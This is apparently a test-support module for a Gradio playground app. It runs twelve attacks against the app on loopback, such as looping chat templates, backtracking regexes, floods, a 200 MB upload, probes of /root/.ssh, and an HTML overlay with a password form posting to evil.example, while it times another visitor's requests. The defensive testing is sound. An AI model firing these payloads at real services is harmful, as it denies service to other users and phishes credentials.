@@ -1,0 +1,531 @@
+"""What one hostile visitor of a public Space can send, run against app.py on loopback.
+
+Shared by `tests/test_app_attacks.py` (which asserts the limits) and
+`scripts/bench_attacks.py` (which prints the before/after table). Each attack
+comes from `ATTACKER`'s address and another visitor, `VICTIM`, parses the
+default sample 20 times meanwhile; every figure is wall time on this machine.
+Addresses are given as X-Forwarded-For, which the server trusts from loopback
+(as from the proxy in front of a Space).
+
+- `start_server(root, limits)`: app.py of the checkout `root` on a free port.
+- `ATTACKS`: (name, function) pairs; a function takes a `Run` and returns an `Outcome`.
+- `under_attack(run, attack)`: the attack in a thread and the victim's parses meanwhile.
+"""
+
+from __future__ import annotations
+
+import json
+import math
+import re
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.request
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import httpx
+import psutil
+
+from engine.authoring.samples import load_samples
+from tests.support.paths import ROOT
+
+ATTACKER = "10.66.0.1"
+VICTIM = "10.2.0.1"
+PARSES = 20
+# Longest the victim waits for one parse (seconds): past it the parse counts as failed.
+VICTIM_PATIENCE = 15.0
+# Longest the suite waits for one attacking request (seconds); "before" figures past it read "> N s".
+PATIENCE = 60.0
+
+QWEN3 = json.loads((ROOT / "templates" / "qwen3.json").read_text(encoding="utf-8"))["response_template"]
+QWEN3_TEXT = json.dumps(QWEN3, indent=2)
+SAMPLE = next(sample for sample in load_samples() if sample.id == "qwen3/text-then-tool-calls")
+LOOPING_JINJA = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
+BACKTRACKING = json.dumps({"start_anchor": "<s>", "fields": {"thing": {"open_pattern": "(a|aa)+$", "close": "</x>"}, "content": {}}})
+LOOKAHEAD = json.dumps({"start_anchor": "<s>", "fields": {
+    "x": {"open_pattern": "<x>(?=(?:(?:a|aa)+d)?)", "close": "</x>", "repeats": True}, "content": {}}})
+LOOKAHEAD_GENERATION = ("<x>" + "a" * 28 + "c</x>") * 40
+OBJECT_CONTENT = json.dumps({"start_anchor": "<s>", "fields": {"content": {"content": {"x": 1}}}})
+OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">'
+           '<form action="//evil.example/steal"><input name="password"><button>Log in</button></form>'
+           '<img src="//evil.example/pixel.png"></div>')
+
+
+@dataclass
+class Outcome:
+    """What the attacking requests got: the longest one's wall time (None: still running at
+    `PATIENCE`), what it said, and how many requests were refused at once."""
+
+    seconds: float | None
+    said: str
+    refused: int = 0
+    details: dict = field(default_factory=dict)
+
+
+@dataclass
+class Run:
+    """A running server: its process, URL, and a scratch folder for model copies."""
+
+    process: subprocess.Popen
+    url: str
+    scratch: Path
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def start_server(root: Path = ROOT, limits: dict | None = None, scratch: Path | None = None) -> Run:
+    """app.py of checkout `root` on loopback, with PLAYGROUND_LIMITS `limits`; waits until it answers."""
+    port = free_port()
+    scratch = scratch or Path(tempfile.mkdtemp(prefix="attack-models-"))
+    env = {**os.environ, "GRADIO_SERVER_NAME": "127.0.0.1", "GRADIO_SERVER_PORT": str(port),
+           "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(root)}
+    if limits:
+        env["PLAYGROUND_LIMITS"] = json.dumps(limits)
+    process = subprocess.Popen([sys.executable, "app.py"], cwd=root, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    url = f"http://127.0.0.1:{port}/"
+    deadline = time.monotonic() + 180
+    while time.monotonic() < deadline:
+        if process.poll() is not None:
+            raise RuntimeError(f"app.py exited with {process.returncode}")
+        try:
+            with urllib.request.urlopen(url, timeout=2) as response:
+                if response.status == 200:
+                    return Run(process, url, scratch)
+        except OSError:
+            time.sleep(0.5)
+    process.kill()
+    raise RuntimeError("app.py did not answer within 180 s")
+
+
+def wait_for_spare(run: Run, timeout: float = 180) -> bool:
+    """Wait until the server's spare worker process has done its imports (it then sleeps on its
+    stdin); False when there is none or it took longer than `timeout`. (Older checkouts ran their
+    spare as playground.authoring.chat_template_check.)"""
+    ends = time.monotonic() + timeout
+    while time.monotonic() < ends:
+        spares = [p for p in psutil.Process(run.process.pid).children()
+                  if any(name in " ".join(p.cmdline()) for name in ("playground.server.workers", "playground.authoring.chat_template_check"))]
+        # Importing, it runs (or waits to run); done, it sleeps on its stdin.
+        if spares and all(p.cpu_times().user > 1 for p in spares) and _asleep(spares):
+            return True
+        time.sleep(1)
+    return False
+
+
+def _asleep(processes: list, looks: int = 10) -> bool:
+    for _ in range(looks):
+        if any(p.status() != psutil.STATUS_SLEEPING for p in processes):
+            return False
+        time.sleep(0.2)
+    return True
+
+
+def stop_server(run: Run) -> None:
+    children = psutil.Process(run.process.pid).children(recursive=True) if run.process.poll() is None else []
+    run.process.terminate()
+    try:
+        run.process.wait(timeout=15)
+    except subprocess.TimeoutExpired:
+        run.process.kill()
+    for child in children:  # workers the server left (a killed server cannot end them)
+        try:
+            child.kill()
+        except psutil.NoSuchProcess:
+            pass
+
+
+def memory_mb(run: Run) -> tuple[float, float]:
+    """(server RSS, its worker processes' RSS) in MB."""
+    server = psutil.Process(run.process.pid)
+    workers = sum(child.memory_info().rss for child in server.children(recursive=True))
+    return server.memory_info().rss / 1e6, workers / 1e6
+
+
+def client(run: Run, address: str, timeout: float = PATIENCE) -> httpx.Client:
+    return httpx.Client(base_url=run.url, headers={"X-Forwarded-For": address}, timeout=timeout)
+
+
+def join(run: Run, endpoint: str, data: list, address: str = ATTACKER) -> tuple[int, str]:
+    """POST /gradio_api/call/<endpoint>: (HTTP status, the event id or the refusal's detail)."""
+    with client(run, address, 30) as http:
+        joined = http.post(f"/gradio_api/call/{endpoint}", json={"data": data})
+    if joined.status_code != 200:
+        try:
+            return joined.status_code, str(joined.json().get("detail"))
+        except ValueError:
+            return joined.status_code, joined.text
+    return 200, joined.json()["event_id"]
+
+
+def result_of(run: Run, endpoint: str, event_id: str, address: str = ATTACKER, timeout: float = PATIENCE) -> object:
+    """The result of a joined call (a generator's last update), or None when it did not come within `timeout`."""
+    result: object = None
+    try:
+        with client(run, address, timeout) as http, http.stream("GET", f"/gradio_api/call/{endpoint}/{event_id}") as stream:
+            kind = ""
+            for line in stream.iter_lines():
+                if line.startswith("event:"):
+                    kind = line[6:].strip()
+                elif line.startswith("data:") and kind in ("generating", "complete", "error"):
+                    payload = json.loads(line[5:]) if line[5:].strip() not in ("", "null") else None
+                    if kind == "error":
+                        return {"error": f"the listener failed: {payload}"}
+                    if isinstance(payload, list) and payload:  # a generator's last update is its result
+                        result = payload[-1]
+                    if kind == "complete":
+                        break
+    except httpx.TimeoutException:
+        return None
+    return result
+
+
+def call(run: Run, endpoint: str, data: list, address: str = ATTACKER, timeout: float = PATIENCE) -> tuple[int, object, float]:
+    """POST /gradio_api/call/<endpoint> and read its result: (HTTP status of the join, the result or
+    the refusal's detail, seconds until the result, None when it did not come within `timeout`)."""
+    started = time.perf_counter()
+    status, event = join(run, endpoint, data, address)
+    if status != 200:
+        return status, event, time.perf_counter() - started
+    result = result_of(run, endpoint, event, address, timeout)
+    return 200, result, None if result is None else time.perf_counter() - started
+
+
+def parse_seconds(run: Run, address: str = VICTIM) -> float | None:
+    """One /parse of the default sample: its seconds, or None when it failed or was refused."""
+    status, result, seconds = call(run, "parse", [QWEN3_TEXT, SAMPLE.prefix, SAMPLE.generation, ""], address, VICTIM_PATIENCE)
+    if status != 200 or not isinstance(result, dict) or result.get("message") != SAMPLE.expected:
+        return None
+    return seconds
+
+
+def p95(seconds: list[float | None]) -> float | None:
+    """The 95th percentile by nearest rank (the 19th of 20), None when more than that many failed
+    (a failed or refused parse counts as unbounded)."""
+    rank = max(1, math.ceil(0.95 * len(seconds)))
+    ordered = sorted(seconds, key=lambda s: float("inf") if s is None else s)
+    return ordered[rank - 1] if seconds else None
+
+
+@dataclass
+class Row:
+    attack: str
+    outcome: Outcome
+    victim: list[float | None]
+    memory: tuple[float, float]
+
+    @property
+    def victim_p95(self) -> float | None:
+        return p95(self.victim)
+
+
+def _victim_main(url: str, parses: int) -> None:
+    """The victim, in a process of its own (a visitor on another machine: the attacker's client
+    threads must not slow its client): waits for a line on stdin, then prints its parse times."""
+    run = Run(None, url, Path(tempfile.gettempdir()))  # type: ignore[arg-type]
+    parse_seconds(run)  # connect once, as an open page has
+    print("ready", flush=True)
+    sys.stdin.readline()
+    found: list[float | None] = []
+    while len(found) < parses:
+        found.append(parse_seconds(run))
+        if found[-2:] == [None, None]:  # the server does not answer: the rest would fail as well
+            found += [None] * (parses - len(found))
+    print(json.dumps(found), flush=True)
+
+
+def under_attack(run: Run, name: str, attack, lead: float = 1.0) -> Row:
+    """Start `attack(run)` in a thread, let it run `lead` seconds, then time the victim's parses
+    (from a process of its own)."""
+    victim_process = subprocess.Popen(
+        [sys.executable, "-m", "tests.attacks", run.url, str(PARSES)], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+        text=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
+    )
+    assert victim_process.stdout.readline().strip() == "ready"
+    outcome: list[Outcome] = []
+    thread = threading.Thread(target=lambda: outcome.append(attack(run)), daemon=True)
+    thread.start()
+    time.sleep(lead)
+    victim_process.stdin.write("go\n")
+    victim_process.stdin.flush()
+    victim = json.loads(victim_process.stdout.readline())
+    victim_process.wait(timeout=30)
+    thread.join(PATIENCE + 30)
+    if thread.is_alive():  # the attack is still waiting: its requests are past PATIENCE
+        outcome.append(Outcome(None, f"still running after {PATIENCE + 30:g} s"))
+    found = outcome[0]
+    return Row(name, found, victim, memory_mb(run))
+
+
+def _longest(results: list[tuple[int, object, float | None]]) -> Outcome:
+    admitted = [r for r in results if r[0] == 200]
+    refused = len(results) - len(admitted)
+    if not admitted:
+        return Outcome(0.0, str(results[0][1]), refused)
+    slowest = max(admitted, key=lambda r: float("inf") if r[2] is None else r[2])
+    result = slowest[1]
+    said = result.get("error") or result.get("status") if isinstance(result, dict) else result
+    return Outcome(slowest[2], str(said)[:300], refused, {"refusal": next((str(r[1]) for r in results if r[0] != 200), "")})
+
+
+# -- the attacks -----------------------------------------------------------------------
+
+
+def queue_flood(run: Run) -> Outcome:
+    """66 chat-template checks of a template that loops for hours, all sent within about a second,
+    then their results awaited (each timed from its own request)."""
+    started = time.perf_counter()
+
+    def sent(_) -> tuple[float, tuple[int, str]]:
+        return time.perf_counter(), join(run, "conformance", [QWEN3_TEXT, LOOPING_JINJA, "", "", ""])
+
+    with ThreadPoolExecutor(max_workers=33) as pool:
+        joined = list(pool.map(sent, range(66)))
+    sending = time.perf_counter() - started
+
+    def awaited(request: tuple[float, tuple[int, str]]) -> tuple[int, object, float | None]:
+        at, (status, answer) = request
+        if status != 200:
+            return status, answer, time.perf_counter() - at
+        result = result_of(run, "conformance", answer, timeout=PATIENCE)
+        return 200, result, None if result is None else time.perf_counter() - at
+
+    with ThreadPoolExecutor(max_workers=66) as pool:
+        outcome = _longest(list(pool.map(awaited, joined)))
+    outcome.details["sent_seconds"] = sending
+    return outcome
+
+
+def _page(run: Run, address: str = ATTACKER):
+    from tests.support.load_sessions import PageVisitor
+
+    return PageVisitor(run.url, timeout=PATIENCE, headers={"X-Forwarded-For": address})
+
+
+def _page_runs(run: Run, listener: str, values: dict, pages: int) -> Outcome:
+    from tests.support.load_sessions import PageFailure, PageRefused
+
+    def one(_):
+        page = _page(run)
+        started = time.perf_counter()
+        try:
+            outputs = page.run(listener, values, timeout=PATIENCE)
+            said = next((v for o in reversed(outputs) for k, v in o.items() if v and k in ("reference", "status", "fits")), "")
+            said = " ".join(re.sub(r"<[^>]+>", " ", str(said)).split())
+            said = said[said.rindex("error:"):] if "error:" in said else said  # the last side that failed says why
+            return 200, said, time.perf_counter() - started
+        except PageRefused as error:
+            return 503, str(error), time.perf_counter() - started
+        except PageFailure as error:
+            return 200, str(error), time.perf_counter() - started
+        except Exception:  # noqa: BLE001 - still running at PATIENCE
+            return 200, "still running", None
+        finally:
+            page.close()
+
+    with ThreadPoolExecutor(max_workers=pages) as pool:
+        return _longest(list(pool.map(one, range(pages))))
+
+
+def reference_backtracking(run: Run) -> Outcome:
+    """Eight "vs transformers" comparisons whose open pattern backtracks without end in transformers' regex."""
+    values = {"template-editor": BACKTRACKING, "prefix": "<s>", "generation": "a" * 36 + "b", "tools": ""}
+    return _page_runs(run, "page_compare_reference", values, 8)
+
+
+def lookahead_parse(run: Run) -> Outcome:
+    """Eight /parse of 40 regions whose open pattern's lookahead backtracks inside the regex budget."""
+    data = [LOOKAHEAD, "", LOOKAHEAD_GENERATION, ""]
+    with ThreadPoolExecutor(max_workers=8) as pool:
+        return _longest(list(pool.map(lambda _: call(run, "parse", data), range(8))))
+
+
+def _big_generation(size: int) -> str:
+    call_text = '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris", "days": 3}}\n</tool_call>\n'
+    words = "The weather in Paris is mild today, with a light breeze from the west. "
+    body = "<think>\n" + words * (size // (4 * len(words))) + "\n</think>\n\n" + words * (size // (4 * len(words)))
+    return body + call_text * max(1, (size - len(body)) // len(call_text))
+
+
+def big_replay(run: Run, size: int = 792_000) -> Outcome:
+    """A harmless /replay of a big paste, a character at a time."""
+    status, result, seconds = call(run, "replay", [QWEN3_TEXT, "", _big_generation(size), "", "chars:1"], timeout=PATIENCE * 5)
+    said = (result.get("error") or f"{result.get('chunks')} chunks; {result['stream_check']['label']}") if isinstance(result, dict) else str(result)
+    return Outcome(seconds, said[:300], 0 if status == 200 else 1)
+
+
+def _generate(user: str, model: str = "") -> list:
+    """The /generate arguments: one token of `user`'s answer from `model` (default: the demo model)."""
+    return [user, model, "", "", "", False, 1, 0.7, 0.9, 0, ""]
+
+
+def long_user_message(run: Run) -> Outcome:
+    """Generate live with a 64,000-character user message."""
+    status, result, seconds = call(run, "generate", _generate("word " * 12_800), timeout=PATIENCE * 3)
+    said = result.get("error") or "generated" if isinstance(result, dict) else str(result)
+    return Outcome(seconds, str(said)[:300], 0 if status == 200 else 1)
+
+
+def model_copy(run: Run, name: str, chat_template: str | None = None) -> Path:
+    """A copy of the demo model under the scratch folder (with another chat template when given)."""
+    folder = run.scratch / name
+    if not folder.exists():
+        shutil.copytree(ROOT / "samples" / "demo-model", folder)
+        if chat_template is not None:
+            (folder / "chat_template.jinja").write_text(chat_template, encoding="utf-8")
+    return folder
+
+
+def looping_chat_template(run: Run) -> Outcome:
+    """Generate live with a model whose chat template loops."""
+    folder = model_copy(run, "looping", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}")
+    status, result, seconds = call(run, "generate", _generate("Hi", str(folder)), timeout=PATIENCE)
+    said = (result.get("error") or "generated") if isinstance(result, dict) else f"no answer ({result})"
+    return Outcome(seconds, str(said)[:300], 0 if status == 200 else 1)
+
+
+def stopped_loads(run: Run) -> Outcome:
+    """Eight model folders, each loaded by a Generate that is stopped at once."""
+    from tests.support.load_sessions import PageFailure
+
+    before = memory_mb(run)[0]
+    started = time.perf_counter()
+    said = ""
+    for number in range(8):
+        page = _page(run)
+        try:
+            future = page.start("page_generate", {"model-name": str(model_copy(run, f"copy-{number}")), "user": "Hi"})
+            time.sleep(0.3)
+            page.run("page_request_stop")
+            outputs = future.result(timeout=PATIENCE)
+            said = outputs[-1].get("status") or said
+        except PageFailure as error:
+            said = str(error)
+        finally:
+            page.close()
+    time.sleep(15)  # the loads that went on end meanwhile
+    grown = memory_mb(run)[0] - before
+    return Outcome(time.perf_counter() - started, f"{said[:160]} (server memory {grown:+.0f} MB after the loads ended)",
+                   details={"grown_mb": grown})
+
+
+def big_upload(run: Run, megabytes: int = 200) -> Outcome:
+    """A 200 MB file upload."""
+    started = time.perf_counter()
+    blob = b"x" * (megabytes * 1_000_000)
+    try:
+        with client(run, ATTACKER) as http:
+            answer = http.post("/gradio_api/upload", files={"files": ("big.json", blob, "application/json")})
+        said, status = answer.text[:200], answer.status_code
+    except httpx.HTTPError as error:
+        said, status = f"connection closed ({type(error).__name__})", 413
+    return Outcome(time.perf_counter() - started, f"HTTP {status}: {said}", 0 if status == 200 else 1)
+
+
+def many_sessions(run: Run, sessions: int = 30, size: int = 1_000_000) -> Outcome:
+    """Sessions of our own choosing, each stepping a 1 MB paste once and keeping it."""
+    from tests.support.load_sessions import PageFailure
+
+    generation = _big_generation(size)
+    before = memory_mb(run)[0]
+    started = time.perf_counter()
+    pages, said, refused = [], "", 0
+    for _ in range(sessions):
+        page = _page(run)
+        pages.append(page)
+        try:
+            outputs = page.run("page_replay_step", {"generation": generation, "prefix": "", "template-editor": QWEN3_TEXT,
+                                                    "chunking": "chars", "chunk-size": 1000})
+            said = outputs[-1].get("status") or said
+        except PageFailure as error:
+            said, refused = str(error), refused + 1
+    grown = memory_mb(run)[0] - before
+    for page in pages:
+        page.close()
+    return Outcome(time.perf_counter() - started, f"server memory {grown:+.0f} MB with {sessions} sessions open",
+                   refused, {"grown_mb": grown})
+
+
+def folder_probe(run: Run) -> Outcome:
+    """/conformance naming a folder that exists (/root/.ssh, or a folder with a chat_template.jinja) and one that does not."""
+    secret = Path(tempfile.mkdtemp(prefix="secret-"))  # outside any folder the server allows
+    (secret / "chat_template.jinja").write_text("SECRET {{ messages }}", encoding="utf-8")
+    started = time.perf_counter()
+    answers = {}
+    for folder in ("/root/.ssh", str(secret), "/root/.no-such-folder-here"):
+        status, result, _ = call(run, "conformance", [QWEN3_TEXT, "", folder, "", ""])
+        answers[folder] = str(result.get("error") if isinstance(result, dict) else result)
+    texts = {text.replace(folder, "X").replace("(a server path)", "X") for folder, text in answers.items()}
+    read = "SECRET" in json.dumps(answers) or "situations" in json.dumps(answers) or any("passed" in t for t in texts)
+    said = "the same answer for all three" if len(texts) == 1 else f"{len(texts)} different answers: {sorted(texts)}"[:300]
+    return Outcome(time.perf_counter() - started, said, details={"answers": answers, "distinct": len(texts), "read": read})
+
+
+def chat_injection(run: Run) -> Outcome:
+    """A deep link whose generation draws a full-page overlay with a form and a remote image in the chat view."""
+    from playground.authoring.share import encode_state
+
+    page = _page(run)
+    started = time.perf_counter()
+    try:
+        outputs = page.open({"sample": "qwen3/text-then-tool-calls", "state": encode_state({"generation": OVERLAY})})
+        chat = json.dumps(outputs[-1].get("chat"))
+    finally:
+        page.close()
+    raw = "<div style" in chat or "<img src" in chat or "<form" in chat
+    return Outcome(time.perf_counter() - started, "HTML drawn as markup" if raw else "shown as text", details={"raw": raw})
+
+
+def hygiene(run: Run) -> Outcome:
+    """Inputs whose messages used to show server paths or Python exception types, and inputs read before their cap."""
+    started = time.perf_counter()
+    said = {}
+    _, result, _ = call(run, "parse", [OBJECT_CONTENT, "", "hi", ""])
+    said["content object"] = str(result.get("error") if isinstance(result, dict) else result)
+    _, result, _ = call(run, "generate", _generate("Hi", "/root/.cache"))
+    said["model folder"] = str(result.get("error") if isinstance(result, dict) else result)
+    page = _page(run)
+    try:
+        said["nested state"] = str(page.open({"state": _nested_state()})[-1].get("status"))
+    finally:
+        page.close()
+    status, result, seconds = call(run, "export", [QWEN3_TEXT, "{" + " " * 50_000_000 + "}"])
+    said["50 MB tokenizer_config"] = f"HTTP {status}: {(result.get('error') if isinstance(result, dict) else result)}"[:200]
+    return Outcome(time.perf_counter() - started, json.dumps(said)[:600], details={"said": said})
+
+
+def _nested_state() -> str:
+    import base64
+    import zlib
+
+    return base64.urlsafe_b64encode(zlib.compress(b"[" * 200_000, 9)).decode("ascii").rstrip("=")
+
+
+ATTACKS = [
+    ("1. 66 looping chat-template checks in 1 s", queue_flood),
+    ("2. 8 backtracking 'vs transformers'", reference_backtracking),
+    ("3a. 8 /parse, lookahead backtracking x40 regions", lookahead_parse),
+    ("3b. /replay of 792 KB at chars:1", big_replay),
+    ("4a. Generate with a 64,000-character message", long_user_message),
+    ("4b. Generate with a looping chat template", looping_chat_template),
+    ("5. 8 model loads, each stopped", stopped_loads),
+    ("6. 200 MB upload", big_upload),
+    ("7. 30 sessions each stepping 1 MB", many_sessions),
+    ("8. folder probes", folder_probe),
+    ("9. HTML in the chat view", chat_injection),
+    ("10. paths, types, caps", hygiene),
+]
+
+
+if __name__ == "__main__":
+    _victim_main(sys.argv[1], int(sys.argv[2]))
